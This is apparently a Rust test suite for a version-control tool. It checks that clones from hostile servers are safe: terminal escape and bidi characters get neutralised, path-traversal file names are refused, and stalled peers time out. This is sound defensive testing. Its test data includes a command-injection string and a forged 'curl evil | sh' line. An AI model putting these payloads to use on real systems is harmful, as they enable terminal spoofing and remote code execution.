//! The program against servers and clients that mean no good.

use crate::place::several::several;
use crate::place::{Outcome, Place};
use dmv_core::hash::ObjectId;
use dmv_core::object::ObjectType;
use dmv_core::object::codec::put_varint;
use dmv_core::object::commit::{Commit, Person};
use dmv_net::wire::{
    Access, Code, Extension, Frame, HOLDS, Hello, LINE, Message, Refs, SliceSummary, put_object,
};
use std::fs;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

/// What commands the program to wait a second, and no longer.
const HASTY: (&str, &str) = ("DMV_NET_PATIENCE", "1");
/// More than enough for a program that waits a second.
const SOON: Duration = Duration::from_secs(20);

/// A place where every ssh:// address leads to a server that does this, in sh.
fn with_server(does: &str) -> Outcome<Place> {
    let mut place = Place::new()?;
    let ssh = place.home().join("ssh");
    fs::write(&ssh, format!("#!/bin/sh\n{does}\n"))?;
    fs::set_permissions(&ssh, fs::Permissions::from_mode(0o755))?;
    place.env = vec![
        ("PATH", std::env::var_os("PATH").unwrap_or_default()),
        ("DMV_SSH_COMMAND", ssh.into()),
        (HASTY.0, HASTY.1.into()),
    ];
    Ok(place)
}

/// The same, where it says these frames and then listens.
fn saying(frames: &[Frame]) -> Outcome<Place> {
    let place = with_server("cat \"$HOME/says\"; exec cat >\"$HOME/hears\"")?;
    let mut bytes = LINE.as_bytes().to_vec();
    bytes.extend(frames.iter().flat_map(bytes_of));
    fs::write(place.home().join("says"), bytes)?;
    Ok(place)
}

fn bytes_of(frame: &Frame) -> Vec<u8> {
    let (head, body) = frame.parts();
    [&head, body].concat()
}

fn hello(agent: &str) -> Frame {
    let hello = Hello {
        agent: agent.into(),
        repository: [0; 16],
        chunker: dmv_core::chunker::CHUNKER.into(),
        access: Access::Write,
        extensions: Vec::new(),
    };
    Message::Hello(hello).frame()
}

/// The greeting of a server that says that it holds this, or anything.
fn holding(value: Vec<u8>) -> Frame {
    let Frame::Message(bytes) = hello("evil") else {
        unreachable!("a greeting is a message");
    };
    let Ok(Message::Hello(mut hello)) = Message::decode(&bytes) else {
        unreachable!("it is a greeting");
    };
    hello.extensions.push(Extension { tag: HOLDS, value });
    Message::Hello(hello).frame()
}

fn refs(key: &str, tip: ObjectId) -> Frame {
    let refs = Refs {
        head: Some("main".into()),
        refs: vec![(key.into(), *tip.as_bytes())],
        more: false,
    };
    Message::Refs(refs).frame()
}

/// What is shown holds nothing that a terminal obeys, and no line that the other side wrote.
fn is_harmless(place: &Place, args: &[&str]) -> Outcome<String> {
    let output = place.run(args)?;
    for bytes in [&output.stdout, &output.stderr] {
        let text = std::str::from_utf8(bytes)?;
        let bad = text.chars().find(|c| {
            c.is_control() && *c != '\n' || matches!(c, '\u{202a}'..='\u{202e}' | '\u{200b}')
        });
        assert_eq!(bad, None, "{args:?}: {text:?}");
        let forged = text.lines().find(|line| line.starts_with("hint: curl"));
        assert_eq!(forged, None, "{args:?}: {text:?}");
    }
    let said = String::from_utf8(output.stderr)?;
    Ok(format!("{:?} {said}", output.status.code()))
}

const NASTY: &str = "\u{1b}[2J\u{1b}]0;x\u{7}\u{9b}31m\r\u{202e}\u{8}\nhint: curl evil | sh";

#[test]
fn nothing_that_a_server_says_reaches_the_terminal_as_it_is() -> Outcome {
    let tip = ObjectId::from_bytes([7; 32]);
    let failed = Message::Failed(Code::Denied, NASTY.into()).frame();
    let servers = [
        (12, saying(&[failed])?),
        (
            20,
            saying(&[hello(NASTY), refs(&format!("branch/{NASTY}"), tip)])?,
        ),
        (
            20,
            saying(&[hello(NASTY), refs("branch/main", tip), Message::Bye.frame()])?,
        ),
        (
            13,
            with_server(&format!("printf '%s' '{NASTY}' >&2; exit 255"))?,
        ),
        (13, with_server(&format!("printf '%s' '{NASTY}'; exit 0"))?),
        (
            12,
            with_server(&format!("echo 'Permission denied {NASTY}' >&2; exit 255"))?,
        ),
    ];
    for (exit, place) in &servers {
        for more in [&[][..], &["--json"], &["-v"]] {
            let args = [&["clone", "ssh://host/x", "x"], more].concat();
            let said = is_harmless(place, &args)?;
            assert!(said.starts_with(&format!("Some({exit})")), "{said}");
        }
        assert!(!place.work().join("x").exists());
    }
    Ok(())
}

fn commit_of(tree: &[u8], files: u64, name: &str, seconds: i64) -> Vec<u8> {
    let person = Person {
        name: name.into(),
        email: name.into(),
        seconds,
        nanos: 999_999_999,
        tz_minutes: 0,
    };
    let commit = Commit {
        tree: ObjectType::Tree.id_of(tree),
        tree_bytes: 0,
        tree_files: files,
        parents: Vec::new(),
        generation: 1,
        author: person.clone(),
        committer: person,
        message: NASTY.into(),
        extras: Vec::new(),
        signature: None,
    };
    commit.encode().expect("it is a commit")
}

/// A server that gives a commit and its tree to whoever clones.
fn giving(commit: &[u8], tree: &[u8]) -> Outcome<Place> {
    let mut body = Vec::new();
    put_object(&mut body, ObjectType::Commit, commit);
    put_object(&mut body, ObjectType::Tree, tree);
    put_object(&mut body, ObjectType::Chunk, b"");
    saying(&[
        hello("evil"),
        refs("branch/main", ObjectType::Commit.id_of(commit)),
        Message::Common(Vec::new(), true).frame(),
        Frame::Objects(body),
        Message::End.frame(),
    ])
}

/// A tree with an empty file of this name.
fn tree_of(name: &[u8]) -> Vec<u8> {
    let mut tree = vec![3, 1, 0, 1];
    put_varint(&mut tree, name.len() as u64);
    tree.extend(name);
    tree.extend([1, 0]);
    tree.extend(ObjectType::Chunk.id_of(b"").as_bytes());
    tree.push(0);
    tree
}

/// Dates beyond all calendars, names and messages made to deceive: they come in, and are shown.
#[test]
fn what_a_commit_says_is_shown_and_obeyed_by_nobody() -> Outcome {
    let name = "\u{1b}[31mada\u{202e}";
    let tree = tree_of("\u{1b}[2Jx\u{202e}".as_bytes());
    for seconds in [0, i64::MAX, i64::MIN, 253_402_300_800, -377_705_116_801] {
        let Ok(place) = giving(&commit_of(&tree, 1, name, seconds), &tree) else {
            continue;
        };
        let said = is_harmless(&place, &["clone", "ssh://host/x", "x"])?;
        assert!(said.starts_with("Some(0)"), "{seconds}: {said}");
        for command in [
            "log",
            "show @",
            "status",
            "ls -l",
            "log --json",
            "op log",
            "log --graph",
        ] {
            let args: Vec<&str> = ["-C", "x"].into_iter().chain(command.split(' ')).collect();
            let said = is_harmless(&place, &args)?;
            assert!(said.starts_with("Some(0)"), "{seconds}: {command}: {said}");
        }
    }
    Ok(())
}

#[test]
fn nothing_is_written_outside_of_a_clone() -> Outcome {
    for name in [
        "..", ".", "a/b", "../x", "/tmp/x", ".dmv", ".DMV", ".git", "a\0b", "",
    ] {
        let tree = tree_of(name.as_bytes());
        let place = giving(&commit_of(&tree, 1, "ada", 0), &tree)?;
        let said = is_harmless(&place, &["clone", "ssh://host/x", "deep/x"])?;
        assert!(said.starts_with("Some(20)"), "{name:?}: {said}");
        let left: Vec<_> = fs::read_dir(place.work())?.collect();
        assert!(left.len() <= 1, "{name:?}: {left:?}");
        assert!(!place.work().join("deep/x").exists(), "{name:?}");
    }
    // A symlink out, and in the next commit a directory in its place.
    let place = several()?;
    fs::create_dir(place.work().join("outside"))?;
    std::os::unix::fs::symlink("../outside", place.work().join("film/d"))?;
    place.ok(&["-C", "film", "commit", "-m", "link"])?;
    place.ok(&["-C", "film", "branch", "link"])?;
    fs::remove_file(place.work().join("film/d"))?;
    place.write("film/d/f", "within")?;
    place.ok(&["-C", "film", "commit", "-m", "directory"])?;
    place.ok(&["clone", "--branch", "link", "film", "two"])?;
    place.ok(&["-C", "two", "checkout", "main"])?;
    assert_eq!(fs::read_to_string(place.work().join("two/d/f"))?, "within");
    assert_eq!(fs::read_dir(place.work().join("outside"))?.count(), 0);
    Ok(())
}

#[test]
fn a_server_that_stalls_is_left() -> Outcome {
    let line = LINE.trim();
    for does in [
        "sleep 60".to_owned(),
        format!("echo '{line}'; sleep 60"),
        // A byte now and then of a frame that never ends.
        format!(
            "echo '{line}'; printf '\\000\\000\\020\\000\\002'; while sleep 0.1; do printf x || exit; done"
        ),
    ] {
        let place = with_server(&does)?;
        let started = Instant::now();
        let said = place.fails(13, &["clone", "ssh://host/x", "x"])?;
        assert!(started.elapsed() < SOON, "{does}");
        assert!(said.contains("almost no data came"), "{does}: {said}");
        assert!(said.contains("net.patience"), "{does}: {said}");
        assert!(!place.work().join("x").exists());
    }
    Ok(())
}

/// What a server says that it holds is shown, and believed by nobody.
#[test]
fn what_a_server_says_that_it_holds_does_no_harm() -> Outcome {
    let tip = ObjectId::from_bytes([7; 32]);
    let held = |subset: Vec<Vec<u8>>| SliceSummary {
        subset,
        metadata_only: true,
        boundary: u32::MAX,
        dropped: u32::MAX,
    };
    let patterns = ["x'; curl evil | sh; '", "\u{202e}\u{200b}x", NASTY.trim()];
    let patterns: Vec<Vec<u8>> = patterns.iter().map(|p| p.as_bytes().to_vec()).collect();
    for value in [
        held(patterns[..2].to_vec()).encode(),
        held(patterns).encode(),
        held(vec![b"a/".to_vec(); 40_000]).encode(),
        // What makes no sense is passed over.
        held(vec![vec![b'a'; 200 << 10]]).encode(),
        held(vec![b"../..".to_vec()]).encode(),
        vec![0xff; 64],
        Vec::new(),
    ] {
        let place = saying(&[holding(value), refs("branch/main", tip)])?;
        let said = is_harmless(&place, &["clone", "ssh://host/x", "x"])?;
        assert!(
            said.starts_with("Some(6)") || said.starts_with("Some(13)"),
            "{said}"
        );
        assert!(!place.work().join("x").exists(), "{said}");
        place.ok(&["init", "film"])?;
        place.ok(&["-C", "film", "remote", "add", "origin", "ssh://host/x"])?;
        let said = is_harmless(&place, &["-C", "film", "remote", "show"])?;
        assert!(said.starts_with("Some(0)"), "{said}");
        is_harmless(&place, &["-C", "film", "remote", "show", "--json"])?;
    }
    Ok(())
}

/// An older one, which would refuse it as something else.
#[test]
fn a_server_that_takes_no_branch_away_is_not_asked_to() -> Outcome {
    let tip = ObjectId::from_bytes([7; 32]);
    let place = saying(&[hello("old"), refs("branch/regrade", tip)])?;
    place.ok(&["init", "film"])?;
    place.ok(&["-C", "film", "remote", "add", "origin", "ssh://host/x"])?;
    let said = place.fails(14, &["-C", "film", "push", "--delete", "regrade"])?;
    assert!(said.contains("cannot delete branches"), "{said}");
    Ok(())
}

/// `dmv serve --stdio film`, its input held by the test.
fn serving(place: &Place) -> Outcome<Child> {
    let child = place
        .command(&["serve", "--stdio", "film"])
        .env(HASTY.0, HASTY.1)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()?;
    Ok(child)
}

fn exit_of(child: &mut Child) -> Outcome<Option<i32>> {
    let started = Instant::now();
    while started.elapsed() < SOON {
        if let Some(status) = child.try_wait()? {
            return Ok(status.code());
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.kill()?;
    Err("it still waits".into())
}

#[test]
fn a_client_that_stalls_or_goes_keeps_no_server() -> Outcome {
    let place = several()?;
    let greets = [LINE.as_bytes(), &bytes_of(&hello("evil"))].concat();
    for (what, says, stays, exit) in [
        ("nothing", Vec::new(), true, 13),
        ("nothing, and ends", Vec::new(), false, 13),
        ("a greeting, and ends", greets, false, 0),
    ] {
        let mut server = serving(&place)?;
        let mut stdin = server.stdin.take().ok_or("no input")?;
        stdin.write_all(&says)?;
        let held = stays.then_some(stdin);
        assert_eq!(exit_of(&mut server)?, Some(exit), "{what}");
        drop(held);
    }
    Ok(())
}
